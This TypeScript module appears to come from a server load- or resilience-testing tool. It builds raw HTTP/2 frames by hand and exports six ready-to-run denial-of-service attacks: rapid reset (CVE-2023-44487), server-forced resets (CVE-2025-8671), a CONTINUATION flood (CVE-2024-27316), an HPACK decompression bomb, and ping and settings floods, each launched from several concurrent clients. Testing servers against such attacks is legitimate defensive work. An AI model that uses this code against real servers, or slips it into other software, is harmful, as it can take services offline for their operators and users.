/**
 * What HTTP/2 clients can do to a server: frames by RFC 9113, without TLS, by prior knowledge.
 *
 * @module
 */
import { type Attack, type Attacker, crowd } from "./crowd.ts";

const DATA = 0x0;
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const PING = 0x6;
const CONTINUATION = 0x9;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const CANCEL = new Uint8Array([0, 0, 0, 8]);
const PREFACE = new TextEncoder().encode("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
/** Fields by HPACK, RFC 7541: `:method: GET`, `:scheme: http`, `:path: /` from the static table, `:authority: a`. */
const GET = [0x82, 0x86, 0x84, 0x01, 1, 0x61];
/** The largest payload that needs no leave. */
const LARGEST = 16_384;
/** Streams begun at once. */
const BATCH = 100;

/** A frame. */
function frame(type: number, flags: number, stream: number, payload: ArrayLike<number> = []): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length);
  const view = new DataView(bytes.buffer);
  view.setUint32(0, payload.length << 8 | type);
  bytes[4] = flags;
  view.setUint32(5, stream);
  bytes.set(payload, 9);
  return bytes;
}

function joined(parts: readonly Uint8Array[]): Uint8Array {
  const bytes = new Uint8Array(parts.reduce((sum, { length }) => sum + length, 0));
  let at = 0;
  for (const part of parts) {
    bytes.set(part, at);
    at += part.length;
  }
  return bytes;
}

/** A field that goes into the dynamic table as its newest entry, 62: the name `x` and a value of that length. */
function kept(length: number): number[] {
  const rest = length - 127;
  return [0x40, 1, 0x78, 0x7f, 0x80 | rest & 0x7f, rest >> 7, ...new Array(length).fill(0x78)];
}

/** An attack on a connection that has begun and reads all that comes. */
function http2(
  name: string,
  about: string,
  clients: number,
  one: (client: Attacker) => Promise<unknown>,
): Attack {
  return crowd(name, about, clients, async (client) => {
    await client.send(joined([PREFACE, frame(SETTINGS, 0, 0)]));
    // Without this, the other side's end would go unnoticed.
    await Promise.all([one(client), client.drain().then(() => Promise.reject(new Error("It was closed")))]);
  });
}

/** Calls back with one unused stream after the other, some at a time, and sends what that gives. */
async function onStreams(client: Attacker, frames: (stream: number) => Uint8Array[]): Promise<void> {
  for (let stream = 1; stream < 2 ** 30; stream += 2 * BATCH) {
    await client.send(joined(Array.from({ length: BATCH }, (_, i) => frames(stream + 2 * i)).flat()));
  }
}

/** All of them. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  http2(
    "h2-resets",
    "HTTP/2: requests that are reset at once, CVE-2023-44487",
    8,
    (client) =>
      onStreams(client, (stream) => [
        frame(HEADERS, END_HEADERS | END_STREAM, stream, GET),
        frame(RST_STREAM, 0, stream, CANCEL),
      ]),
  ),
  http2(
    "h2-made-resets",
    "HTTP/2: requests that the server has to reset, CVE-2025-8671",
    8,
    (client) =>
      onStreams(client, (stream) => [
        frame(HEADERS, END_HEADERS | END_STREAM, stream, GET),
        frame(DATA, END_STREAM, stream, [0x78]),
      ]),
  ),
  http2("h2-continuations", "HTTP/2: a head without an end, CVE-2024-27316", 8, async (client) => {
    await client.send(frame(HEADERS, END_STREAM, 1, GET));
    // A field of its own each time: name and value as they are, in no table.
    const field = [0x00, 1, 0x78, 100, ...new Array(100).fill(0x78)];
    await client.repeat(frame(CONTINUATION, 0, 1, new Array(150).fill(field).flat()));
  }),
  http2("h2-bomb", "HTTP/2: heads of 16 KB that unpack to 40 MB", 8, async (client) => {
    const start = [...GET, ...kept(3_000)];
    const bomb = [...start, ...new Array(LARGEST - start.length).fill(0xbe)];
    await onStreams(client, (stream) => [frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)]);
  }),
  http2("h2-pings", "HTTP/2: pings as fast as they are taken, CVE-2019-9512", 8, async (client) => {
    await client.repeat(joined(new Array(500).fill(frame(PING, 0, 0, new Uint8Array(8)))));
  }),
  http2("h2-settings", "HTTP/2: settings as fast as they are taken, CVE-2019-9515", 8, async (client) => {
    await client.repeat(joined(new Array(500).fill(frame(SETTINGS, 0, 0))));
  }),
];
